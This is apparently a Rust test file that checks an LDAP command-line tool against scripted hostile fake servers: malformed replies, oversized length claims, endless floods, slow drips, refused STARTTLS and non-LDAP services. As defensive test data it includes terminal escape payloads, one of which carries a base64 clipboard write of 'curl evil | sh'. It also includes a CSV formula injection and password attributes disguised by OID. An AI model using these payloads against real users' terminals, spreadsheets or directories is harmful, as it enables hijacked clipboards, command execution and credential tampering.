//! Hostile and broken servers (a scripted fake on loopback): every case ends in a named
//! cause within the timeout, never a panic, a hang, unbounded memory or raw escape codes.

mod support;

use std::ffi::OsStr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use support::cli::{Env, Run, run_env};
use support::fake::{self, Act, Req, entry, friendly, msg, result, serve};

fn run(env: &Env, args: &[&str]) -> Run {
    run_env(&env.config, args, None, &[("FAKE_PW", OsStr::new("pw"))])
}

fn env_for(fake: &fake::Fake, timeout: u64) -> Env {
    let env = Env::new();
    env.write(&fake::config(&[fake.url()], timeout));
    env
}

/// No panic report, no raw escape character in what a person reads.
fn clean(r: &Run) {
    for s in [&r.stdout, &r.stderr] {
        assert!(!s.contains("panicked"), "panic:\n{s}");
        assert!(
            !s.contains('\x1b') && !s.contains('\x07'),
            "raw escape:\n{s:?}"
        );
    }
    assert_ne!(r.code, 101, "exit 101 is a panic");
}

fn cause(r: &Run) -> String {
    let v: serde_json::Value = serde_json::from_str(&r.stderr)
        .unwrap_or_else(|e| panic!("stderr is not JSON ({e}): {}", r.stderr));
    v["error"]["cause"].as_str().unwrap_or("").to_string()
}

/// A server whose bind answer is `reply`.
fn bind_answer(reply: Vec<u8>) -> fake::Fake {
    serve(move |r: &Req| match r.op {
        0x60 => vec![Act::Send(reply.clone())],
        _ => friendly(r),
    })
}

#[test]
fn malformed_bind_answers_are_a_protocol_error_at_bind() {
    let non_integer_id = ldapdeck::syntax::ber::tlv(
        0x30,
        &[ldapdeck::syntax::ber::tlv(0x04, b"x"), result(0x61, 0, "")].concat(),
    );
    for reply in [
        vec![0x30, 0x00],
        vec![0x30, 0x03, 0x02, 0x01, 0x01],
        non_integer_id,
    ] {
        let f = bind_answer(reply.clone());
        let env = env_for(&f, 3);
        let r = run(&env, &["test", "fake", "--json"]);
        clean(&r);
        assert_eq!(r.code, 1, "{reply:02x?}: {}{}", r.stdout, r.stderr);
        let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("json");
        let bind = v["steps"]
            .as_array()
            .expect("steps")
            .iter()
            .find(|s| s["step"] == "bind")
            .expect("bind step")
            .clone();
        assert_eq!(bind["status"], "failed", "{reply:02x?}: {bind}");
        assert_eq!(bind["cause"], "server_protocol_error", "{bind}");
        assert!(
            bind["detail"]
                .as_str()
                .unwrap_or("")
                .contains("not valid LDAP"),
            "{bind}"
        );
        let r = run(&env, &["users", "list", "fake", "--json"]);
        clean(&r);
        assert_eq!(r.code, 1);
        assert_eq!(cause(&r), "server_protocol_error", "{}", r.stderr);
    }
}

/// A server that binds and answers every search with `entries` then success.
fn search_answer(entries: Vec<Vec<u8>>) -> fake::Fake {
    serve(move |r: &Req| match r.op {
        0x63 => {
            let mut acts: Vec<Act> = entries
                .iter()
                .map(|e| Act::Send(msg(r.id, e.clone())))
                .collect();
            acts.push(Act::Send(msg(r.id, result(0x65, 0, ""))));
            acts
        }
        _ => friendly(r),
    })
}

#[test]
fn malformed_entries_are_a_protocol_error_not_a_crash() {
    use ldapdeck::syntax::ber::tlv;
    let not_a_set = tlv(
        0x64,
        &[
            tlv(0x04, b"uid=a,ou=people,dc=example,dc=org"),
            tlv(
                0x30,
                &tlv(
                    0x30,
                    &[tlv(0x04, b"uid"), tlv(0x30, &tlv(0x04, b"a"))].concat(),
                ),
            ),
        ]
        .concat(),
    );
    let empty = tlv(0x64, b"");
    for bad in [not_a_set, empty] {
        let f = search_answer(vec![bad]);
        let env = env_for(&f, 3);
        for args in [
            &["users", "list", "fake", "--json"][..],
            &["users", "get", "fake", "a", "--json"][..],
            &["authorize", "fake", "a", "--json", "--password-stdin"][..],
        ] {
            let r = run_env(
                &env.config,
                args,
                Some("secret\n"),
                &[("FAKE_PW", OsStr::new("pw"))],
            );
            clean(&r);
            // authorize could not check the user (exit 3); the listings failed (exit 1).
            let want = if args[0] == "authorize" { 3 } else { 1 };
            assert_eq!(r.code, want, "{args:?}: {}{}", r.stdout, r.stderr);
            let text = format!("{}{}", r.stdout, r.stderr);
            assert!(text.contains("server_protocol_error"), "{args:?}: {text}");
        }
    }
}

#[test]
fn a_message_claiming_two_gigabytes_is_refused_at_once() {
    let f = bind_answer(vec![0x30, 0x84, 0x7f, 0xff, 0xff, 0xff, 0x02, 0x01, 0x01]);
    let env = env_for(&f, 5);
    let t = Instant::now();
    let r = run(&env, &["users", "list", "fake", "--json"]);
    clean(&r);
    assert_eq!(cause(&r), "server_protocol_error", "{}", r.stderr);
    assert!(r.stderr.contains("over the limit"), "{}", r.stderr);
    assert!(t.elapsed() < Duration::from_secs(4), "{:?}", t.elapsed());
}

/// A server that answers every search with users forever (up to 4 GiB), `login(i)` the i-th's uid.
fn endless(login: fn(usize) -> String) -> fake::Fake {
    serve(move |r: &Req| match r.op {
        0x63 => {
            let id = r.id;
            vec![Act::Flood(
                Arc::new(move |i| {
                    msg(
                        id,
                        entry(
                            &format!("uid=u{i},ou=people,dc=example,dc=org"),
                            &[("uid", &[login(i).as_str()]), ("cn", &["x"])],
                        ),
                    )
                }),
                4 << 30,
            )]
        }
        _ => friendly(r),
    })
}

#[test]
fn endless_answers_stop_at_what_was_asked_and_within_the_timeout() {
    // Every search is answered with entries forever (a RootDSE, a login lookup, a list),
    // all with the same login.
    let f = endless(|_| "same".to_string());
    let env = env_for(&f, 2);
    let t = Instant::now();
    let r = run_env(
        &env.config,
        &["authorize", "fake", "same", "--json", "--password-stdin"],
        Some("secret\n"),
        &[("FAKE_PW", OsStr::new("pw"))],
    );
    clean(&r);
    let text = format!("{}{}", r.stdout, r.stderr);
    assert!(text.contains("ambiguous_user"), "{text}");
    assert!(text.len() < 20_000, "{} bytes printed", text.len());
    assert!(t.elapsed() < Duration::from_secs(4), "{:?}", t.elapsed());

    let t = Instant::now();
    let r = run(&env, &["test", "fake", "--json"]);
    clean(&r);
    // The whole doctor, every step against an endless server, ends near the timeout per step.
    assert!(t.elapsed() < Duration::from_secs(16), "{:?}", t.elapsed());
}

#[test]
fn server_text_is_capped_and_escapes_are_shown_not_obeyed() {
    let evil = format!(
        "bad \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07\u{202e}{}",
        "x".repeat(5_000_000)
    );
    let f = bind_answer(msg(1, result(0x61, 49, &evil)));
    let env = env_for(&f, 3);
    for args in [
        &["test", "fake"][..],
        &["users", "list", "fake"][..],
        &["users", "list", "fake", "--json"][..],
    ] {
        let r = run(&env, args);
        clean(&r);
        let text = format!("{}{}", r.stdout, r.stderr);
        assert!(
            text.contains("\\x1b]52"),
            "{args:?}: {}",
            &text[..text.len().min(400)]
        );
        assert!(!text.contains('\u{202e}'), "{args:?}");
        assert!(text.len() < 40_000, "{args:?}: {} bytes", text.len());
        assert!(text.contains("bytes more"), "{args:?}");
    }
}

#[test]
fn escapes_in_entries_never_reach_the_terminal_raw() {
    let cn = "Innocent Name\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;t\x07";
    let long = "y".repeat(70_000);
    let e = entry(
        "uid=eve,ou=people,dc=example,dc=org",
        &[
            ("uid", &["eve"]),
            ("cn", &[cn]),
            ("sn", &[long.as_str()]),
            ("givenName", &["two\nlines"]),
        ],
    );
    let f = search_answer(vec![e]);
    let env = env_for(&f, 3);
    for fmt in ["table", "csv", "ldif"] {
        let r = run(&env, &["users", "list", "fake", "--format", fmt]);
        clean(&r);
        assert_eq!(r.code, 0, "{fmt}: {}", r.stderr);
        if fmt == "table" {
            // One row, cut, on one line.
            assert_eq!(r.stdout.lines().count(), 3, "{}", r.stdout);
            assert!(r.stdout.contains('…'), "{}", r.stdout);
            assert!(r.stdout.contains("two\\x0alines"), "{}", r.stdout);
        }
    }
    let r = run(&env, &["users", "get", "fake", "eve"]);
    clean(&r);
    assert!(r.stdout.contains("Innocent Name\\x1b]52"), "{}", r.stdout);
    // JSON stays exact: the value parses back to the same bytes.
    let r = run(&env, &["users", "list", "fake", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("json");
    assert!(v.to_string().contains("\\u001b]52"), "{v}");
}

#[test]
fn a_silent_first_server_fails_over_to_the_next() {
    let silent = serve(|r: &Req| {
        if r.op == 0 {
            vec![Act::Silence]
        } else {
            vec![]
        }
    });
    let good = search_answer(vec![entry(
        "uid=ann,ou=people,dc=example,dc=org",
        &[("uid", &["ann"])],
    )]);
    let env = Env::new();
    env.write(&fake::config(&[silent.url(), good.url()], 2));
    let t = Instant::now();
    let r = run(&env, &["users", "list", "fake", "--format", "jsonl"]);
    clean(&r);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("ann"), "{}", r.stdout);
    assert!(r.stderr.contains("warning"), "failover said: {}", r.stderr);
    assert!(t.elapsed() < Duration::from_secs(5), "{:?}", t.elapsed());
}

#[test]
fn starttls_refused_never_falls_back_to_plain_text() {
    let f = serve(|r: &Req| match r.op {
        0x77 => vec![Act::Send(msg(
            r.id,
            result(0x78, 2, "unsupported extended operation"),
        ))],
        _ => friendly(r),
    });
    let env = Env::new();
    env.write(&format!("{}starttls = true\n", fake::config(&[f.url()], 3)));
    let r = run(&env, &["users", "list", "fake", "--json"]);
    clean(&r);
    assert_eq!(cause(&r), "starttls_refused", "{}", r.stderr);
    let reqs = f.requests();
    assert!(!reqs.is_empty());
    assert!(
        reqs.iter().all(|q| q.op != 0x60),
        "a bind was sent in clear: {reqs:?}"
    );
}

#[test]
fn referrals_are_never_chased() {
    let referral = ldapdeck::syntax::ber::tlv(
        0x73,
        &ldapdeck::syntax::ber::tlv(0x04, b"ldap://127.0.0.1:1/dc=elsewhere"),
    );
    let f = search_answer(vec![
        referral,
        entry("uid=ann,ou=people,dc=example,dc=org", &[("uid", &["ann"])]),
    ]);
    let env = env_for(&f, 3);
    let r = run(&env, &["users", "list", "fake", "--format", "jsonl"]);
    clean(&r);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout.lines().count(), 1, "{}", r.stdout);
    assert_eq!(f.connections(), 1);
}

#[test]
fn a_dripping_server_cannot_stretch_an_operation_past_the_timeout() {
    let f = serve(|r: &Req| match r.op {
        0x60 => vec![Act::Drip(msg(r.id, result(0x61, 0, &"z".repeat(40))), 200)],
        _ => friendly(r),
    });
    let env = env_for(&f, 1);
    let t = Instant::now();
    let r = run(&env, &["users", "list", "fake", "--json"]);
    clean(&r);
    assert_eq!(cause(&r), "timeout", "{}", r.stderr);
    assert!(t.elapsed() < Duration::from_secs(4), "{:?}", t.elapsed());
}

#[test]
fn garbage_and_truncated_answers() {
    for acts in [
        vec![Act::Send(b"HTTP/1.1 400 Bad Request\r\n\r\n".to_vec())],
        vec![Act::Send(vec![0x30, 0x0c, 0x02, 0x01]), Act::Close],
        vec![Act::Reset],
    ] {
        let a = acts.clone();
        let f = serve(move |r: &Req| if r.op == 0x60 { a.clone() } else { friendly(r) });
        let env = env_for(&f, 2);
        let r = run(&env, &["users", "list", "fake", "--json"]);
        clean(&r);
        assert_eq!(r.code, 1, "{}", r.stderr);
        let c = cause(&r);
        assert!(
            c == "server_protocol_error" || c == "connection_lost" || c == "not_ldap",
            "{c}: {}",
            r.stderr
        );
    }
}

#[test]
fn the_doctor_on_a_silent_port_ends_within_the_timeout() {
    let silent = serve(|r: &Req| {
        if r.op == 0 {
            vec![Act::Silence]
        } else {
            vec![]
        }
    });
    for scheme in ["ldap", "ldaps"] {
        let env = Env::new();
        env.write(&fake::config(
            &[format!("{scheme}://127.0.0.1:{}", silent.port)],
            2,
        ));
        let t = Instant::now();
        let r = run(&env, &["test", "fake", "--json"]);
        clean(&r);
        assert_eq!(r.code, 1);
        // timeout_secs plus the 0.5 s probe margin, plus process start.
        assert!(
            t.elapsed() < Duration::from_millis(3200),
            "{scheme}: {:?}",
            t.elapsed()
        );
        assert!(r.stdout.contains("\"timeout\""), "{}", r.stdout);
    }
}

#[test]
fn an_empty_service_password_is_never_sent() {
    let f = serve(friendly);
    let env = env_for(&f, 2);
    for (args, stdin, vars) in [
        (
            &["users", "list", "fake", "--json", "--password-stdin"][..],
            Some("\n"),
            vec![],
        ),
        (
            &["users", "list", "fake", "--json", "--password-env", "EMPTY"][..],
            None,
            vec![("EMPTY", OsStr::new(""))],
        ),
    ] {
        let r = run_env(&env.config, args, stdin, &vars);
        clean(&r);
        assert_eq!(cause(&r), "empty_password", "{}", r.stderr);
    }
    assert!(f.requests().iter().all(|q| q.op != 0x60), "a bind was sent");
}

#[test]
fn closed_pipes_end_quietly_and_stop_the_search() {
    use std::io::{BufRead, BufReader};
    use std::process::{Command, Stdio};
    // An endless stream of users: the reader closing the pipe must end the search.
    let f = endless(|i| format!("u{i}"));
    let env = env_for(&f, 30);
    for args in [
        &["test", "fake"][..],
        &["users", "list", "fake", "--format", "table"][..],
        &["users", "list", "fake", "--format", "jsonl"][..],
    ] {
        let t = Instant::now();
        let mut child = Command::new(support::cli::bin())
            .arg("--config")
            .arg(&env.config)
            .args(args)
            .env("FAKE_PW", "pw")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let mut first = String::new();
        BufReader::new(child.stdout.take().expect("stdout"))
            .read_line(&mut first)
            .expect("line");
        // The reader is gone (`| head -1`).
        let out = child.wait_with_output().expect("wait");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert_ne!(out.status.code(), Some(101), "{args:?}");
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "{args:?}: {:?}",
            t.elapsed()
        );
    }
}

#[test]
fn limit_zero_csv_formulas_and_passwords_by_oid() {
    let f = search_answer(vec![entry(
        "uid=mal,ou=people,dc=example,dc=org",
        &[
            ("uid", &["mal"]),
            ("cn", &["=HYPERLINK(\"http://x\")"]),
            ("sn", &["-2+3"]),
        ],
    )]);
    let env = env_for(&f, 3);
    let r = run(
        &env,
        &["users", "list", "fake", "--format", "jsonl", "--limit", "0"],
    );
    assert_eq!((r.code, r.stdout.as_str()), (0, ""), "{}", r.stderr);
    assert!(
        f.requests().iter().all(|q| q.op != 0x63),
        "--limit 0 searched"
    );
    let r = run(
        &env,
        &[
            "users", "list", "fake", "--format", "csv", "--attrs", "cn,sn",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains("\"'=HYPERLINK(\"\"http://x\"\")\""),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("'-2+3"), "{}", r.stdout);
    for set in [
        "2.5.4.35=Secret-1",
        "userPassword;lang-en=Secret-1",
        "OID.2.5.4.35=Secret-1",
    ] {
        let before = f.requests().len();
        let r = run(
            &env,
            &["users", "modify", "fake", "mal", "--set", set, "--yes"],
        );
        assert_eq!(r.code, 2, "{set}: {}{}", r.stdout, r.stderr);
        assert!(!r.stderr.contains("Secret-1"), "{}", r.stderr);
        let sent = &f.requests()[before..];
        assert!(
            sent.iter().all(|q| q.op != 0x66),
            "{set}: a modify was sent"
        );
    }
}

#[test]
fn another_service_on_the_port_is_named() {
    let http = serve(|r: &Req| {
        if r.op == 0 {
            vec![]
        } else {
            vec![
                Act::Send(b"HTTP/1.1 400 Bad Request\r\n\r\n".to_vec()),
                Act::Close,
            ]
        }
    });
    let ssh = serve(|r: &Req| {
        if r.op == 0 {
            vec![Act::Send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n".to_vec())]
        } else {
            vec![]
        }
    });
    for (url, step, service) in [
        (http.url(), "bind", "HTTP"),
        (format!("ldaps://127.0.0.1:{}", http.port), "tls", "HTTP"),
        (ssh.url(), "bind", "SSH"),
    ] {
        let env = Env::new();
        env.write(&fake::config(std::slice::from_ref(&url), 2));
        let r = run(&env, &["test", "fake", "--json"]);
        clean(&r);
        let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("json");
        let s = v["steps"]
            .as_array()
            .expect("steps")
            .iter()
            .find(|s| s["step"] == step)
            .expect("step")
            .clone();
        assert_eq!(s["cause"], "not_ldap", "{url}: {s}");
        assert!(
            s["detail"]
                .as_str()
                .unwrap_or("")
                .contains(&format!("answers {service}, not LDAP")),
            "{url}: {s}"
        );
    }
}

/// The tree on a hostile server: escape sequences in naming contexts and child DNs reach the
/// screen only made visible, and a flood of children stops at the cap asked.
#[tokio::test]
async fn the_tree_shows_hostile_names_made_visible_and_bounded() {
    use ldapdeck::app::tree::Tree;
    use ldapdeck::ldap::read::tree;
    let nc = "dc=evil\x1b]0;pwn\x07";
    let child = format!("cn=a\x1b[2Jb,{nc}");
    let (nc2, child2) = (nc.to_string(), child.clone());
    let f = serve(move |r: &Req| match r.op {
        0x63 => {
            // The RootDSE read names the naming context; every other search answers with
            // the hostile child, many times over.
            let text = String::from_utf8_lossy(&r.bytes);
            let e = if text.contains("namingContexts") {
                vec![entry("", &[("namingContexts", &[nc2.as_str()])])]
            } else {
                (0..50)
                    .map(|_| entry(&child2, &[("objectClass", &["person"])]))
                    .collect()
            };
            let mut acts: Vec<Act> = e.into_iter().map(|e| Act::Send(msg(r.id, e))).collect();
            acts.push(Act::Send(msg(r.id, result(0x65, 0, ""))));
            acts
        }
        _ => friendly(r),
    });
    let env = env_for(&f, 3);
    let store = ldapdeck::config::Store::load(&env.config).expect("config");
    let p = store.get("fake").expect("provider").clone();
    let setup = ldapdeck::ldap::net::tls::setup(None, true).expect("tls");
    let pw =
        ldapdeck::ldap::doctor::Password::Given(ldapdeck::config::Secret::new("pw"), "test".into());
    let (mut c, _) = ldapdeck::ldap::net::connect::open_bound(&p, &setup, pw)
        .await
        .expect("bound");
    let roots = tree::roots(&mut c.session).await.expect("roots");
    assert_eq!(roots[0].dn, nc);
    let mut kids = Vec::new();
    let ended = tree::children(
        &mut c.session,
        &roots[0],
        20,
        Duration::from_secs(3),
        &mut |n| {
            kids.push(n);
            true
        },
    )
    .await
    .expect("children");
    assert_eq!((kids.len(), ended.entries), (20, 20), "stops at the cap");
    let mut t = Tree::new(&p, None);
    t.set_roots(roots);
    t.expand();
    t.add_children(kids);
    t.children_done(None);
    let mut app = ldapdeck::app::App::new("/tmp/p.toml", vec![p]);
    app.push(t);
    let mut term =
        ratatui::Terminal::new(ratatui::backend::TestBackend::new(80, 24)).expect("term");
    term.draw(|fr| ldapdeck::ui::draw(fr, &app, &ldapdeck::ui::theme::Theme::mono()))
        .expect("draw");
    let screen = term.backend().to_string();
    assert!(
        !screen.contains('\x1b') && !screen.contains('\x07'),
        "{screen:?}"
    );
    assert!(screen.contains("\\x1b]0;pwn\\x07"), "{screen}");
    assert!(screen.contains("cn=a\\x1b[2Jb"), "{screen}");
}

/// The plan of an LDIF file on a server that never answers a read of its entries: every
/// record is named as unread, and the entries cost one timeout, not one for the search that
/// named them together and another for each entry read alone after it.
#[test]
fn a_silent_server_cannot_stretch_the_plan_of_a_file() {
    let reads_entries = |q: &Req| q.op == 0x63 && q.bytes.windows(11).any(|w| w == b"description");
    let f = serve(move |r: &Req| match r.op {
        _ if reads_entries(r) => vec![Act::Silence],
        _ => friendly(r),
    });
    let env = env_for(&f, 3);
    let file = env.dir.path().join("silent.ldif");
    let ldif: String = (0..3)
        .map(|i| {
            format!(
                "dn: uid=u{i},ou=people,dc=example,dc=org\nchangetype: modify\n\
                 replace: description\ndescription: x\n-\n\n"
            )
        })
        .collect();
    std::fs::write(&file, ldif).expect("write ldif");
    let t = Instant::now();
    let path = file.to_str().expect("utf-8 path");
    let r = run(&env, &["apply", "fake", path, "--yes"]);
    let took = t.elapsed();
    clean(&r);
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    for line in ["line 1: uid=u0", "line 7: uid=u1", "line 13: uid=u2"] {
        assert!(r.stderr.contains(line), "{line}: {}", r.stderr);
    }
    assert!(r.stderr.contains("nothing was sent"), "{}", r.stderr);
    assert!(
        took < Duration::from_secs(5),
        "one timeout of 3 s: {took:?}"
    );
    // The three were asked for in one search naming each by its DN.
    let named = |q: &Req| q.op == 0x63 && q.bytes.windows(7).any(|w| w == b"entryDN");
    assert_eq!(f.requests().iter().filter(|q| named(q)).count(), 1);
}
